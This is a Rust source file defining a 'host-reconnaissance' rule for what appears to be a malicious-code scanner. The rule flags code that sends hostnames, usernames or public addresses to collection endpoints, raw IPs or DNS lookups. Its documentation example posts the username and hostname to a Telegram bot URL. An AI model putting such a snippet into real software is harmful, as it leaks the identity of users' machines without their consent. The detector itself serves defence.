//! Who and where a machine is, told to somebody.

use crate::facts::{Fact, Scope};
use crate::rule::detector;
use crate::source::Unit;
use crate::subject::{Findings, Subject};
use crate::{Confidence, Severity};

detector! {
    /// Who and where the machine is goes to a collection endpoint or an address of digits.
    ///
    /// ## What it does
    /// Looks for functions that, with what they call, ask for the names of machine and user or for the
    /// public address, and talk to a place that anybody can use to collect data, to an address of
    /// digits, or to an address that was hidden; that look up a machine whose name they make of it; or
    /// that send several of these to an address that the code names.
    ///
    /// ## Why is this bad?
    /// It is how an attacker learns who has taken the bait, and the first version of what sends more.
    /// Telemetry does the same with an address of its own, which is no finding.
    ///
    /// ## Example
    /// ```rust
    /// let text = format!("{} {}", whoami::username(), hostname::get()?.display());
    /// ureq::post("https://api.telegram.org/bot0:x/sendMessage").send_form(&[("text", &text)])?;
    /// ```
    ///
    /// ## How to fix it
    /// Ask users before anything is sent, and send it to an address of the project.
    HostReconnaissance "host-reconnaissance" Malice High Medium Stable
}

impl HostReconnaissance {
    pub(crate) fn detect(subject: &Subject<'_>, findings: &mut Findings) {
        let condition = |scope: &Scope<'_>| {
            let lookup = scope.has(Fact::NameLookup) && scope.has(Fact::DynamicHost);
            // Who is sent, and where to is not for the user to say.
            let told = scope.has(Fact::Upload)
                && scope.has(Fact::Address)
                && scope.details(Fact::HostIdentity).len() >= 2;
            scope.has(Fact::HostIdentity)
                && scope.any(&[Fact::Network, Fact::NetworkCommand, Fact::NameLookup])
                && (lookup
                    || told
                    || scope.any(&[Fact::ExfilEndpoint, Fact::RawAddress, Fact::HiddenText]))
        };
        for scope in subject.facts().scopes(2, condition) {
            let names = scope.details(Fact::HostIdentity).len();
            let lookup = scope.has(Fact::NameLookup) && scope.has(Fact::DynamicHost);
            let sends = scope.has(Fact::Upload) || names >= 2 || lookup;
            let (severity, confidence) = match (sends, scope.unit) {
                (true, Unit::Example) => (Severity::Medium, Confidence::Medium),
                (true, _) => (Severity::High, Confidence::Medium),
                (false, _) => (Severity::Medium, Confidence::Medium),
            };
            let places = scope.places(
                subject,
                &[
                    Fact::HostIdentity,
                    Fact::ExfilEndpoint,
                    Fact::RawAddress,
                    Fact::HiddenText,
                    Fact::DynamicHost,
                    Fact::NameLookup,
                    Fact::Upload,
                    Fact::Network,
                ],
            );
            let message = format!(
                "{} tells somebody who and where the machine is",
                scope.unit.as_str()
            );
            findings
                .rated(&Self::RULE, severity, confidence, message, places)
                .reached_as(&scope);
        }
    }
}
